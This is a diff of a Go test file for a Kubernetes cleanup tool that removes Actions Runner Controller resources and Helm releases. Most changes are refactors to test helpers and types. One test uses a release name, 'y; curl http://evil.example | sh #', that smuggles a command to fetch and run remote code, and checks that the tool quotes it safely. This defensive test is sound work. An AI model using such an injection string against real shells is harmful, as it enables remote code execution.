@@ -18,6 +18,7 @@ import (
 
 	"github.com/arc-cleanup/arc-cleanup/internal/arc"
 	"github.com/arc-cleanup/arc-cleanup/internal/identity"
+	"github.com/arc-cleanup/arc-cleanup/internal/object"
 	"github.com/arc-cleanup/arc-cleanup/internal/release"
 )
 
@@ -56,7 +57,7 @@ func ofSetNamed(set string, items ...item) []item {
 // is in no list that was read before: it is no orphan.
 func TestWhatIsNewIsNoOrphan(t *testing.T) {
 	t.Parallel()
-	items := append(whole(crdObjects()...), deployment(ctrl("systems/arc", "", by("systems/arc"))))
+	items := append(whole(crdObjects()...), deployment("systems/arc", "", by("systems/arc")))
 	items = append(items, ofSetNamed("runners/set", runnerWithPod("first", building)...)...)
 	items = append(items, whole(obj("ars runners/set", by("runners/gpu")))...)
 	for _, late := range []string{"LIST pod runners", "LIST secret runners", "LIST er runners", "LIST ers runners"} {
@@ -74,7 +75,7 @@ func TestWhatIsNewIsNoOrphan(t *testing.T) {
 		}
 		o := ofSet
 		o.RequireUninstalling, o.Job, o.Release = false, "", "gpu"
-		r := Run(t.Context(), c, graced(o, ample), quiet)
+		r := Run(t.Context(), c, graced(o, ample), quiet, nil)
 		for _, write := range a.written() {
 			if strings.Contains(write, "second") {
 				t.Errorf("while %s is late: %s\n%s", late, write, r.Text(10))
@@ -121,10 +122,10 @@ func TestAnOwnerIsLookedForOnceMore(t *testing.T) {
 // What does not say whose it is may be that of another team's controller.
 func TestAnotherControllersListener(t *testing.T) {
 	t.Parallel()
-	items := stuck(deployment(ctrl("team/arc", "team-runners")))
+	items := stuck(deployment("team/arc", "team-runners"))
 	items = append(items, whole(obj("secret team/config", owned("al team/new")))...)
 	a, c := newAPI(t, items...)
-	Run(t.Context(), c, graced(byHand, ample), quiet)
+	Run(t.Context(), c, graced(byHand, ample), quiet, nil)
 	if slices.Contains(a.written(), "DELETE secret team/config") {
 		t.Error("deleted what another controller's listener needs")
 	}
@@ -135,14 +136,14 @@ func TestADeploymentIsNoController(t *testing.T) {
 	t.Parallel()
 	const account = "system:serviceaccount:tenant:arc list autoscalingrunnersets in "
 	for name, watches := range map[string]string{"it says to watch all": "", "it says to watch the runners": "runners"} {
-		a, c := newAPI(t, stuck(deployment(ctrl("tenant/arc", watches)))...)
+		a, c := newAPI(t, stuck(deployment("tenant/arc", watches))...)
 		a.denied = map[string]bool{account + watches: true}
-		if r := Run(t.Context(), c, graced(byHand, ample), quiet); r.Verdict != Done || len(r.Kept) > 0 {
+		if r := Run(t.Context(), c, graced(byHand, ample), quiet, nil); r.Verdict != Done || len(r.Kept) > 0 {
 			t.Errorf("%s: the CRDs are kept for it:\n%s", name, r.Text(10))
 		}
-		a, c = newAPI(t, stuck(deployment(ctrl("tenant/arc", watches)))...)
+		a, c = newAPI(t, stuck(deployment("tenant/arc", watches))...)
 		a.fault = on(http.StatusForbidden, always, "REVIEW "+account+watches)
-		if r := Run(t.Context(), c, graced(byHand, ample), quiet); len(r.Kept) == 0 {
+		if r := Run(t.Context(), c, graced(byHand, ample), quiet, nil); len(r.Kept) == 0 {
 			t.Errorf("%s: whether it is one cannot be known, and the CRDs are deleted:\n%s", name, r.Text(10))
 		}
 	}
@@ -151,7 +152,7 @@ func TestADeploymentIsNoController(t *testing.T) {
 // Labels that a chart's value overrides say nothing about a controller.
 func TestALiveControllerIsKnownByWhatItRuns(t *testing.T) {
 	t.Parallel()
-	it := deployment(ctrl("systems/arc", "", by("systems/arc")))
+	it := deployment("systems/arc", "", by("systems/arc"))
 	it.labels[arc.LabelPartOf] = "build-platform"
 	_, c := newAPI(t, stuck(it)...)
 	s := survey(t.Context(), c, byHand)
@@ -170,8 +171,8 @@ func TestANameHasTwoSpellings(t *testing.T) {
 		Namespace: "runners", Name: "github", UID: "github", Finalizers: []string{arc.CleanupProtectionFinalizer},
 		Labels: map[string]string{arc.LabelScaleSetName: "linux_x64", arc.LabelScaleSetNamespace: "runners"},
 	}}
-	s.Protected = []*Object{object(secretResource, m)}
-	s.Record = &release.Record{Name: "gpu", Namespace: "runners", Status: release.Uninstalling}
+	s.Protected = []*object.Object{fromMetadata(object.Secrets, m)}
+	s.Record = recordOf("runners/gpu")
 	for _, line := range lines(NewPlan(&s, ofSet, History{})) {
 		if strings.Contains(line, "secret runners/github") {
 			t.Errorf("freed while a runner of its set has a job: %s", line)
@@ -190,7 +191,7 @@ func TestASetElsewhere(t *testing.T) {
 		protected("secret runners/github", mine, of("runners/set"), deleting))...)
 	a, c := newAPI(t, items...)
 	o := Options{Scope: ScaleSet, Job: "gpu-arc-cleanup", RequireUninstalling: true, ReleaseNamespace: "releases", ControllerNamespaces: []string{"systems"}}
-	r := Run(t.Context(), c, graced(o, ample), quiet)
+	r := Run(t.Context(), c, graced(o, ample), quiet, nil)
 	expect(t, r, outcome{Verdict: Done})
 	for _, left := range a.left() {
 		if !strings.HasPrefix(left, "crd ") && !strings.Contains(left, "sh.helm.release") {
@@ -201,7 +202,7 @@ func TestASetElsewhere(t *testing.T) {
 	// Without a record: the set is named, and so is where it is.
 	a, c = newAPI(t, append(whole(crdObjects()...), whole(obj("ars runners/set"), obj("er runners/r", of("runners/set"), deleting))...)...)
 	byName := Options{Scope: ScaleSet, ReleaseNamespace: "releases", ControllerNamespaces: []string{"systems"}, Sets: []identity.Set{named("runners/set")}}
-	expect(t, Run(t.Context(), c, graced(byName, ample), quiet), outcome{Verdict: Done})
+	expect(t, Run(t.Context(), c, graced(byName, ample), quiet, nil), outcome{Verdict: Done})
 	for _, left := range a.left() {
 		if !strings.HasPrefix(left, "crd ") {
 			t.Errorf("named, and left: %s", left)
@@ -212,30 +213,30 @@ func TestASetElsewhere(t *testing.T) {
 	theirs := append(whole(crdObjects()...), record("releases", "releases", "gpu", "uninstalling", manifest))
 	theirs = append(theirs, whole(obj("ars runners/set"), obj("er runners/r", of("runners/set"), deleting))...)
 	a, c = newAPI(t, theirs...)
-	Run(t.Context(), c, graced(o, ample), quiet)
+	Run(t.Context(), c, graced(o, ample), quiet, nil)
 	expectStrings(t, "writes", a.written())
 }
 
 // Flux keeps the record beside the HelmRelease.
 func TestARecordElsewhere(t *testing.T) {
 	t.Parallel()
-	controller := deployment(ctrl("systems/arc", "", by("systems/arc")))
+	controller := deployment("systems/arc", "", by("systems/arc"))
 	controller.labels[labelFluxNamespace] = "flux-system"
 	controller.rest["status"] = nil
 	items := stuck(controller, record("flux-system", "systems", "arc", "uninstalling", arcManifest))
 	_, c := newAPI(t, items...)
-	r := Run(t.Context(), c, graced(asHook, ample), quiet)
+	r := Run(t.Context(), c, graced(asHook, ample), quiet, nil)
 	if r.Verdict != Refused || !strings.Contains(r.Text(10), "set storageNamespace to flux-system") {
 		t.Errorf("%s", r.Text(10))
 	}
 	_, c = newAPI(t, items...)
 	o := asHook
 	o.StorageNamespace = "flux-system"
-	expect(t, Run(t.Context(), c, graced(o, ample), quiet), outcome{Verdict: Done})
+	expect(t, Run(t.Context(), c, graced(o, ample), quiet, nil), outcome{Verdict: Done})
 
 	// What a namespace's own people write there speaks for it alone.
 	a, c := newAPI(t, stuck(record("systems", "elsewhere", "arc", "uninstalling", arcManifest))...)
-	if r := Run(t.Context(), c, graced(asHook, ample), quiet); r.Verdict != Refused || len(a.written()) > 0 {
+	if r := Run(t.Context(), c, graced(asHook, ample), quiet, nil); r.Verdict != Refused || len(a.written()) > 0 {
 		t.Errorf("%s", r.Text(10))
 	}
 }
@@ -243,9 +244,9 @@ func TestARecordElsewhere(t *testing.T) {
 // The post-renderer cannot know that the controller is not where its release is.
 func TestAHookInTheWrongNamespace(t *testing.T) {
 	t.Parallel()
-	controller := deployment(ctrl("systems/arc", "", by("platform/arc")))
+	controller := deployment("systems/arc", "", by("platform/arc"))
 	_, c := newAPI(t, stuck(controller, record("platform", "platform", "arc", "uninstalling", strings.Replace(arcManifest, "name: arc", "name: arc, namespace: systems", 1)))...)
-	r := Run(t.Context(), c, graced(asHook, ample), quiet)
+	r := Run(t.Context(), c, graced(asHook, ample), quiet, nil)
 	for _, want := range []string{"give the post-renderer --namespace=platform", "arc-hookjob run --release arc --release-namespace platform --controller-namespace systems && helm uninstall arc --namespace platform --no-hooks"} {
 		if r.Verdict != Refused || !strings.Contains(r.Text(10), want) {
 			t.Errorf("want %s:\n%s", want, r.Text(10))
@@ -257,9 +258,9 @@ func TestAHookInTheWrongNamespace(t *testing.T) {
 func TestAControllerThatTheHookDoesNotKnow(t *testing.T) {
 	t.Parallel()
 	r := uninstalling()
-	r.Objects = append(r.Objects, release.Object{APIVersion: "apps/v1", Kind: "Deployment", Namespace: "systems", Name: "b"})
+	r.Deployments = append(r.Deployments, named("systems/b"))
 	both := []ARC{ctrl("systems/arc", "team-a", by("systems/arc")), ctrl("systems/b", "team-b", by("systems/arc"))}
-	live := []*Object{obj("ars team-b/set")}
+	live := []*object.Object{obj("ars team-b/set")}
 	watching := func(namespaces ...string) Options { o := asHook; o.WatchNamespaces = namespaces; return o }
 	const why = "refused: the controller systems/b of this release watches team-b, and the hook was rendered for team-a"
 	refused := func(o Options, controllers []ARC) string {
@@ -293,7 +294,7 @@ func TestOutsideTheRunnerNamespaces(t *testing.T) {
 	t.Parallel()
 	o := asHook
 	o.RunnerNamespaces = []string{"runners"}
-	s := &Survey{Record: uninstalling(), Custom: []*Object{obj("ars runners/set", deleting), obj("er team/r", deleting), obj("al systems/l", of("runners/set"), deleting)}, CRDs: crdObjects()}
+	s := &Survey{Record: uninstalling(), Custom: []*object.Object{obj("ars runners/set", deleting), obj("er team/r", deleting), obj("al systems/l", of("runners/set"), deleting)}, CRDs: crdObjects()}
 	refusals := func(s *Survey, o Options) (out []string) {
 		for _, r := range NewPlan(s, o, History{}).Refusals {
 			out = append(out, fmt.Sprintf("%s: %s", r.Verdict, r.Message))
@@ -302,9 +303,9 @@ func TestOutsideTheRunnerNamespaces(t *testing.T) {
 	}
 	expectStrings(t, "refusals", refusals(s, o), "refused: 1 custom resources of ARC in namespace team are outside the hook's runner namespaces: runners")
 	// A listener's place is beside its controller, a runner's is not.
-	s.Custom = []*Object{obj("al systems/l", of("far/set"), deleting), obj("er systems/r", deleting)}
+	s.Custom = []*object.Object{obj("al systems/l", of("far/set"), deleting), obj("er systems/r", deleting)}
 	expectStrings(t, "beside the controller", refusals(s, o), "refused: 1 custom resources of ARC in namespace systems are outside the hook's runner namespaces: runners")
-	s.Custom = []*Object{obj("run runners/r", deleting), obj("run team/r", deleting)}
+	s.Custom = []*object.Object{obj("run runners/r", deleting), obj("run team/r", deleting)}
 	o.Scope = Legacy
 	expectStrings(t, "of a legacy controller", refusals(s, o), "refused: 1 custom resources of ARC in namespace team are outside the hook's runner namespaces: runners")
 }
@@ -321,7 +322,7 @@ func TestAReleaseThatHoldsScaleSets(t *testing.T) {
 			protected("secret systems/github", mine, of("systems/set"), deleting))...), more...)
 	}
 	a, c := newAPI(t, items()...)
-	expect(t, Run(t.Context(), c, graced(asHook, ample), quiet), outcome{Verdict: Done})
+	expect(t, Run(t.Context(), c, graced(asHook, ample), quiet, nil), outcome{Verdict: Done})
 	writes := a.inOrder()
 	if last := writes[len(writes)-1]; last != "DELETE crd "+lastCRD {
 		t.Errorf("the last write is %s", last)
@@ -330,14 +331,14 @@ func TestAReleaseThatHoldsScaleSets(t *testing.T) {
 	// Whatever holds something, the CRDs are there for the next helm uninstall.
 	held := whole(protected("role systems/held", mine, of("systems/set"), deleting, finalizers(arc.CleanupProtectionFinalizer, "example.com/keep")))
 	a, c = newAPI(t, items(held...)...)
-	r := Run(t.Context(), c, graced(asHook, 300*time.Millisecond), quiet)
+	r := Run(t.Context(), c, graced(asHook, 300*time.Millisecond), quiet, nil)
 	if r.Verdict != Residue || slices.ContainsFunc(a.written(), func(w string) bool { return strings.HasPrefix(w, "DELETE crd") }) {
 		t.Errorf("%v\n%s", a.written(), r.Text(10))
 	}
 
 	// They are gone, and Helm has still to uninstall: done would be a lie.
 	_, c = newAPI(t, record("systems", "systems", "arc", "uninstalling", manifest))
-	r = Run(t.Context(), c, graced(asHook, ample), quiet)
+	r = Run(t.Context(), c, graced(asHook, ample), quiet, nil)
 	if r.Verdict != Refused || !strings.Contains(r.Text(10), "    helm uninstall arc --namespace systems --no-hooks\n    arc-hookjob run --release arc --release-namespace systems\n    kubectl delete job arc-arc-cleanup --namespace systems") {
 		t.Errorf("%s", r.Text(10))
 	}
@@ -359,14 +360,14 @@ func TestWhatOthersHoldIsLeft(t *testing.T) {
 		items := append(whole(crdObjects()...), it)
 		items = append(items, whole(obj("ars runners/set", by("runners/gpu"), deleting))...)
 		_, c := newAPI(t, items...)
-		r := Run(t.Context(), c, graced(byHand, 300*time.Millisecond), quiet)
+		r := Run(t.Context(), c, graced(byHand, 300*time.Millisecond), quiet, nil)
 		if r.Verdict != Residue || len(r.Left) != 1 || r.Left[0].Object.Name != "held" {
 			t.Errorf("%s: %s", name, r.Text(10))
 		}
 	}
 	// Anybody may put the label on what is theirs: it is named, and blocks nobody.
 	_, c := newAPI(t, append(whole(crdObjects()...), whole(protected("secret tenant/held", of("tenant/set"), deleting, foreign), obj("er tenant/r", of("tenant/set"), deleting))...)...)
-	if r := Run(t.Context(), c, graced(byHand, 300*time.Millisecond), quiet); r.Verdict != Done || len(r.Kept) != 1 {
+	if r := Run(t.Context(), c, graced(byHand, 300*time.Millisecond), quiet, nil); r.Verdict != Done || len(r.Kept) != 1 {
 		t.Errorf("%s", r.Text(10))
 	}
 }
@@ -377,7 +378,7 @@ func TestTheLastLookBeforeTheCRDs(t *testing.T) {
 	rolledBack := record("systems", "systems", "arc", "deployed", arcManifest)
 	for name, change := range map[string]item{
 		"a rollback":         rolledBack,
-		"another controller": deployment(ctrl("team/arc", "")),
+		"another controller": deployment("team/arc", ""),
 		"another scale set":  whole(obj("ars team/set"))[0],
 	} {
 		a, c := newAPI(t, recorded()...)
@@ -386,7 +387,7 @@ func TestTheLastLookBeforeTheCRDs(t *testing.T) {
 				a.put(change)
 			}
 		}
-		r := Run(t.Context(), c, graced(asHook, ample), quiet)
+		r := Run(t.Context(), c, graced(asHook, ample), quiet, nil)
 		if slices.ContainsFunc(a.written(), func(w string) bool { return strings.HasPrefix(w, "DELETE crd") }) {
 			t.Errorf("%s: deleted the CRDs\n%s", name, r.Text(10))
 		}
@@ -396,7 +397,7 @@ func TestTheLastLookBeforeTheCRDs(t *testing.T) {
 // A name that is mistyped makes nobody's controller ours, and is said.
 func TestAMistypedRelease(t *testing.T) {
 	t.Parallel()
-	_, c := newAPI(t, append(whole(crdObjects()...), deployment(ctrl("systems/arc", "", by("systems/arc"))))...)
+	_, c := newAPI(t, append(whole(crdObjects()...), deployment("systems/arc", "", by("systems/arc")))...)
 	o := ofRelease
 	o.Release = "acr"
 	p := Preview(t.Context(), c, o)
@@ -420,12 +421,12 @@ func TestNotFoundIsNotAbsent(t *testing.T) {
 	pod := whole(obj("pod runners/r", owned("er runners/r")))
 	a, c := newAPI(t, append(pod, record("runners", "runners", "set", "uninstalling", ""))...)
 	a.claimed = map[string]bool{arc.EphemeralRunners: true}
-	r := Run(t.Context(), c, graced(ofSet, ample), quiet)
+	r := Run(t.Context(), c, graced(ofSet, ample), quiet, nil)
 	if r.Verdict != Failed || len(a.written()) > 0 || !strings.Contains(r.Text(10), "not found, though the API server says that it serves it in the versions v1alpha1") {
 		t.Errorf("%s", r.Text(10))
 	}
 	_, c = newAPI(t, append(pod, record("runners", "runners", "set", "uninstalling", ""))...)
-	expect(t, Run(t.Context(), c, graced(ofSet, ample), quiet), outcome{Verdict: Done})
+	expect(t, Run(t.Context(), c, graced(ofSet, ample), quiet, nil), outcome{Verdict: Done})
 }
 
 // When the time is over the reason is not: what could not be read.
@@ -435,13 +436,13 @@ func TestWhyTheTimeRanOut(t *testing.T) {
 	a.fault = on(http.StatusInternalServerError, always, "LIST er")
 	ctx, cancel := context.WithTimeoutCause(t.Context(), 300*time.Millisecond, ErrBudget)
 	defer cancel()
-	r := Run(ctx, c, graced(byHand, ample), quiet)
+	r := Run(ctx, c, graced(byHand, ample), quiet, nil)
 	if r.Verdict != Failed || !strings.Contains(r.Text(10), "could not read ephemeralrunners.actions.github.com") || len(a.written()) > 0 {
 		t.Errorf("%s", r.Text(10))
 	}
 	ctx, stop := context.WithCancelCause(t.Context())
 	stop(ErrInterrupted)
-	if r := Run(ctx, c, graced(byHand, ample), quiet); r.Verdict != Interrupted {
+	if r := Run(ctx, c, graced(byHand, ample), quiet, nil); r.Verdict != Interrupted {
 		t.Errorf("%s", r.Text(10))
 	}
 }
@@ -449,18 +450,18 @@ func TestWhyTheTimeRanOut(t *testing.T) {
 // CRDs that somebody keeps, or manages apart, stay, and with them only what is needed.
 func TestCRDsThatStay(t *testing.T) {
 	t.Parallel()
-	keep := crdObjects(func(o *Object) { o.Keep = true })
+	keep := crdObjects(func(o *object.Object) { o.Keep = true })
 	apart := crdObjects(by("systems/arc-crds"))
 	own := crdObjects(by("systems/arc"))
 	keeps := func(o Options) Options { o.CRDs = KeepCRDs; return o }
-	runner := []*Object{obj("er runners/r", deleting)}
+	runner := []*object.Object{obj("er runners/r", deleting)}
 	const freed = "release: release er runners/r"
 	testPlans(t, map[string]planTest{
 		"told to":                    {Survey{Record: uninstalling(), CRDs: keep, Custom: runner}, asHook, Fresh, []string{freed, "keep: its annotation helm.sh/resource-policy says keep"}},
 		"of another release":         {Survey{Record: uninstalling(), CRDs: apart, Custom: runner}, asHook, Fresh, []string{freed, "keep: it is of the Helm release arc-crds in namespace systems"}},
 		"of this release":            {Survey{Record: uninstalling(), CRDs: own, Custom: runner}, asHook, Fresh, []string{freed, "crds: " + allCRDs}},
 		"by the policy":              {Survey{Record: uninstalling(), CRDs: crdObjects(), Custom: runner}, keeps(asHook), Fresh, []string{freed, "keep: crds=keep"}},
-		"each object goes by itself": {Survey{Record: uninstalling(), CRDs: keep, Custom: []*Object{obj("er runners/r")}}, asHook, Fresh, []string{"release: delete er runners/r", freed, "keep: its annotation helm.sh/resource-policy says keep"}},
+		"each object goes by itself": {Survey{Record: uninstalling(), CRDs: keep, Custom: []*object.Object{obj("er runners/r")}}, asHook, Fresh, []string{"release: delete er runners/r", freed, "keep: its annotation helm.sh/resource-policy says keep"}},
 	})
 }
 
@@ -482,7 +483,7 @@ func TestAForgedRecord(t *testing.T) {
 		"is pending":                     record("tenant", "tenant", "x", "pending-upgrade", manifest),
 	} {
 		a, c := newAPI(t, append(append(recorded(), forged), credentials...)...)
-		r := Run(t.Context(), c, graced(uninstalls(asHook), ample), quiet)
+		r := Run(t.Context(), c, graced(uninstalls(asHook), ample), quiet, nil)
 		if r.Verdict != Done || slices.Contains(a.written(), "DELETE secret monitoring/credentials") {
 			t.Errorf("%s: %s", name, r.Text(10))
 		}
@@ -495,12 +496,12 @@ func TestKeptAndPendingReleases(t *testing.T) {
 	set := whole(obj("ars runners/set", by("runners/gpu")))
 	kept := record("runners", "runners", "old", "uninstalled", gpuManifest)
 	a, c := newAPI(t, append(append(recorded(), kept, record("runners", "runners", "gpu", "deployed", gpuManifest)), set...)...)
-	expect(t, Run(t.Context(), c, graced(uninstalls(asHook), ample), quiet), outcome{Verdict: Done})
+	expect(t, Run(t.Context(), c, graced(uninstalls(asHook), ample), quiet, nil), outcome{Verdict: Done})
 	if !slices.Contains(a.left(), ref(kept.Object)) {
 		t.Error("deleted the history that was to be kept")
 	}
 	a, c = newAPI(t, append(append(recorded(), record("runners", "runners", "gpu", "pending-upgrade", gpuManifest)), set...)...)
-	r := Run(t.Context(), c, graced(uninstalls(asHook), ample), quiet)
+	r := Run(t.Context(), c, graced(uninstalls(asHook), ample), quiet, nil)
 	if r.Verdict != Refused || len(a.written()) > 0 || !strings.Contains(r.Text(10), "is pending") {
 		t.Errorf("%s", r.Text(10))
 	}
@@ -513,7 +514,7 @@ func TestAScaleSetsConfigMap(t *testing.T) {
 	items := append(recorded(), record("runners", "runners", "gpu", "deployed", gpuManifest+"---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: kube-hook-extension}\n"))
 	items = append(append(items, extension...), whole(obj("ars runners/set", by("runners/gpu")))...)
 	a, c := newAPI(t, items...)
-	expect(t, Run(t.Context(), c, graced(uninstalls(asHook), ample), quiet), outcome{Verdict: Done})
+	expect(t, Run(t.Context(), c, graced(uninstalls(asHook), ample), quiet, nil), outcome{Verdict: Done})
 	if slices.Contains(a.left(), "configmap runners/kube-hook-extension") {
 		t.Error("ARC's own ConfigMap is left")
 	}
@@ -530,7 +531,7 @@ func TestAnotherReleasesWebhooks(t *testing.T) {
 		return it
 	}
 	a, c := newAPI(t, append(whole(legacyCRDs()...), webhook("ours", "systems/arc"), webhook("theirs", "systems/other"))...)
-	Run(t.Context(), c, graced(ofLegacy, ample), quiet)
+	Run(t.Context(), c, graced(ofLegacy, ample), quiet, nil)
 	if !slices.Contains(a.left(), "mwc theirs") || slices.Contains(a.left(), "mwc ours") {
 		t.Errorf("left: %q", a.left())
 	}
@@ -544,7 +545,7 @@ func TestANamesakesController(t *testing.T) {
 		t.Errorf("%q", got)
 	}
 	account := uninstalling()
-	account.Objects = []release.Object{{APIVersion: "v1", Kind: "ServiceAccount", Namespace: "systems", Name: "arc"}}
+	account.Deployments = nil
 	namesake := &Survey{Record: account, Controllers: []ARC{ctrl("systems/arc", "", by("systems/arc"))}, CRDs: crdObjects()}
 	if got := lines(NewPlan(namesake, asHook, History{})); !slices.Contains(got, "keep: the controller systems/arc uses them") {
 		t.Errorf("the record has another object of that name, and no Deployment: %q", got)
@@ -560,7 +561,7 @@ func TestCommandsAreQuoted(t *testing.T) {
 	t.Parallel()
 	set := obj("ars tenant/set")
 	set.Release = identity.Name{Namespace: "x", Name: "y; curl http://evil.example | sh #"}
-	s := &Survey{Custom: []*Object{set}, Proven: map[types.UID]bool{set.UID: true}}
+	s := &Survey{Custom: []*object.Object{set}, Proven: map[types.UID]bool{set.UID: true}}
 	if got := NewPlan(s, byHand, History{}).Refusals[0].Do[0]; got != "helm uninstall 'y; curl http://evil.example | sh #' --namespace x" {
 		t.Error(got)
 	}
@@ -586,14 +587,14 @@ func TestAJobThatNobodyMadeForADeletion(t *testing.T) {
 		it := whole(obj("job systems/arc-arc-cleanup"))[0]
 		it.annotations[trackingID] = test.id
 		a, c := newAPI(t, stuck(it)...)
-		r := Run(t.Context(), c, graced(inArgo, ample), quiet)
+		r := Run(t.Context(), c, graced(inArgo, ample), quiet, nil)
 		if r.Verdict != test.want || test.want == Refused && len(a.written()) > 0 {
 			t.Errorf("%s: %s", name, r.Text(10))
 		}
 	}
 	a, c := newAPI(t, stuck()...)
 	a.fault = on(http.StatusForbidden, always, "GET job systems/arc-arc-cleanup")
-	if r := Run(t.Context(), c, graced(inArgo, ample), quiet); r.Verdict != NotPermitted || len(a.written()) > 0 {
+	if r := Run(t.Context(), c, graced(inArgo, ample), quiet, nil); r.Verdict != NotPermitted || len(a.written()) > 0 {
 		t.Errorf("it may not be read: %s", r.Text(10))
 	}
 }
@@ -608,9 +609,9 @@ func TestARegistrationIsShownAsItIs(t *testing.T) {
 }
 
 // withSets is the record of a release that holds a scale set beside the controller.
-func withSets() *release.Record {
+func withSets() *Record {
 	r := uninstalling()
-	r.Objects = append(r.Objects, release.Object{APIVersion: "actions.github.com/v1alpha1", Kind: arc.AutoscalingRunnerSet, Namespace: "systems", Name: "set"})
+	r.Sets = append(r.Sets, named("systems/set"))
 	return r
 }
 
@@ -628,12 +629,12 @@ func TestThePlanOfAReleaseThatHoldsScaleSets(t *testing.T) {
 	}
 	testPlans(t, map[string]planTest{
 		"while something is left they stay": {
-			Survey{Record: withSets(), CRDs: crdObjects(), Custom: []*Object{obj("er systems/r", of("systems/set"))}},
+			Survey{Record: withSets(), CRDs: crdObjects(), Custom: []*object.Object{obj("er systems/r", of("systems/set"))}},
 			asHook, Fresh,
 			[]string{"release: delete er systems/r", "release: release er systems/r"},
 		},
 		"though it is but garbage": {
-			Survey{Record: withSets(), CRDs: crdObjects(), Dependents: []*Object{obj("secret systems/jit", of("systems/set"), owned("er systems/r"))}},
+			Survey{Record: withSets(), CRDs: crdObjects(), Dependents: []*object.Object{obj("secret systems/jit", of("systems/set"), owned("er systems/r"))}},
 			asHook, Fresh,
 			[]string{"collect: delete secret systems/jit"},
 		},
@@ -673,7 +674,7 @@ func TestNotesAboutANamedRelease(t *testing.T) {
 		survey Survey
 		want   []string
 	}{
-		"no record":               {Survey{ProofErr: release.ErrNotFound}, []string{"Helm has no record of release arc in namespace systems"}},
+		"no record":               {Survey{ProofErr: errNoRelease}, []string{"Helm has no record of release arc in namespace systems"}},
 		"it could not be read":    {Survey{Unknown: []Unknown{{"the Helm release", errors.New("x")}}}, nil},
 		"nobody uninstalls it":    {Survey{Record: deployed}, []string{"release arc in namespace systems is deployed: nobody is uninstalling it"}},
 		"it is being uninstalled": {Survey{Record: uninstalling()}, nil},
@@ -710,7 +711,7 @@ func TestWhereTheProofMayBe(t *testing.T) {
 			hint,
 		}},
 	} {
-		s := &Survey{ProofErr: release.ErrNotFound, Controllers: []ARC{test.controller}, Proven: map[types.UID]bool{test.controller.UID: true}}
+		s := &Survey{ProofErr: errNoRelease, Controllers: []ARC{test.controller}, Proven: map[types.UID]bool{test.controller.UID: true}}
 		expectStrings(t, name, NewPlan(s, test.options, History{}).Refusals[0].Do, test.want...)
 	}
 }
@@ -719,19 +720,19 @@ func TestWhereTheProofMayBe(t *testing.T) {
 func TestWhatIsHeldAndKnown(t *testing.T) {
 	t.Parallel()
 	seen := History{Sets: map[identity.Set]identity.Name{named("runners/set"): named("runners/gpu"), named("plain/set"): {}}}
-	held := func(text string, mods ...with) *Object {
+	held := func(text string, mods ...with) *object.Object {
 		return obj("secret "+text, append([]with{deleting, finalizers("example.com/keep")}, mods...)...)
 	}
 	const kept = "it is being deleted, and held by finalizers which are not ARC's: example.com/keep"
 	for name, test := range map[string]struct {
-		object  *Object
-		custom  []*Object
+		object  *object.Object
+		custom  []*object.Object
 		options Options
 		history History
 		want    []string
 	}{
 		"of a set that was seen":            {held("runners/s", of("runners/set")), nil, byHand, seen, []string{"await secret runners/s"}},
-		"of one that is there":              {held("runners/s", of("runners/set")), []*Object{obj("ars runners/set", deleting, finalizers())}, byHand, History{}, []string{"await secret runners/s"}},
+		"of one that is there":              {held("runners/s", of("runners/set")), []*object.Object{obj("ars runners/set", deleting, finalizers())}, byHand, History{}, []string{"await secret runners/s"}},
 		"of one that is named":              {held("runners/s", of("runners/set")), nil, named1("set"), History{}, []string{"await secret runners/s"}},
 		"of one that nobody has seen":       {held("runners/s", of("runners/other")), nil, byHand, seen, []string{kept}},
 		"not being deleted":                 {obj("role runners/s", of("runners/set"), finalizers("example.com/keep")), nil, named1("other"), seen, nil},
@@ -741,7 +742,7 @@ func TestWhatIsHeldAndKnown(t *testing.T) {
 		"of another release":                {held("runners/s", by("runners/other")), nil, byHand, seen, nil},
 		"of nobody, as a set that was seen": {held("plain/s"), nil, byHand, seen, nil},
 	} {
-		s := &Survey{Held: []*Object{test.object}, Custom: test.custom}
+		s := &Survey{Held: []*object.Object{test.object}, Custom: test.custom}
 		var got []string
 		plan := NewPlan(s, test.options, test.history)
 		for _, step := range plan.steps(Collect) {
@@ -761,8 +762,8 @@ func TestWhatIsHeldAndKnown(t *testing.T) {
 func TestWhatARunRemembersAsItsOwn(t *testing.T) {
 	t.Parallel()
 	s := &Survey{
-		Controllers: []ARC{ctrl("team/b", "theirs")}, Custom: []*Object{obj("er theirs/r")},
-		Dependents: []*Object{obj("secret runners/jit", owned("er runners/r")), obj("secret theirs/jit", owned("er theirs/r"))},
+		Controllers: []ARC{ctrl("team/b", "theirs")}, Custom: []*object.Object{obj("er theirs/r")},
+		Dependents: []*object.Object{obj("secret runners/jit", owned("er runners/r")), obj("secret theirs/jit", owned("er theirs/r"))},
 	}
 	if got := lines(NewPlan(s, byHand, History{})); got != nil {
 		t.Errorf("before: %q", got)
@@ -790,7 +791,7 @@ func TestIsTheObjectOfAManifest(t *testing.T) {
 		"another kind":        {release.Object{APIVersion: "actions.github.com/v1alpha1", Kind: "EphemeralRunner", Name: "set"}, false},
 		"another group":       {release.Object{APIVersion: "example.com/v1alpha1", Kind: arc.AutoscalingRunnerSet, Name: "set"}, false},
 	} {
-		if got := set.is(test.object); got != test.want {
+		if got := isOf(set, test.object); got != test.want {
 			t.Errorf("%s: %t", name, got)
 		}
 	}
@@ -848,7 +849,7 @@ func TestWhatATenantHoldsIsNoResidue(t *testing.T) {
 		"a Secret of a set that another one has": whole(obj("secret tenant/held", of("runners/set"), owned("er gone"), foreign, deleting))[0],
 	} {
 		a, c := newAPI(t, stuck(it)...)
-		r := Run(t.Context(), c, graced(byHand, time.Minute), quiet)
+		r := Run(t.Context(), c, graced(byHand, time.Minute), quiet, nil)
 		if r.Verdict != Done || len(r.Kept) != 1 || r.Kept[0].Object.Name != "held" {
 			t.Errorf("%s: %s", name, r.Text(10))
 		}
@@ -860,7 +861,7 @@ func TestWhatATenantHoldsIsNoResidue(t *testing.T) {
 	}
 	// What a runner that was seen owned is not the word of whoever wrote it.
 	_, c := newAPI(t, stuck(whole(obj("secret runners/jit", owned("er runners/r"), foreign))...)...)
-	if r := Run(t.Context(), c, graced(byHand, 300*time.Millisecond), quiet); r.Verdict != Residue {
+	if r := Run(t.Context(), c, graced(byHand, 300*time.Millisecond), quiet, nil); r.Verdict != Residue {
 		t.Errorf("%s", r.Text(10))
 	}
 }
@@ -871,7 +872,7 @@ func TestWhatATenantHoldsIsNoResidue(t *testing.T) {
 func TestAReleaseElsewhereIsProved(t *testing.T) {
 	t.Parallel()
 	const uninstalls, override = "helm uninstall arc --namespace releases", "give the post-renderer --namespace=releases"
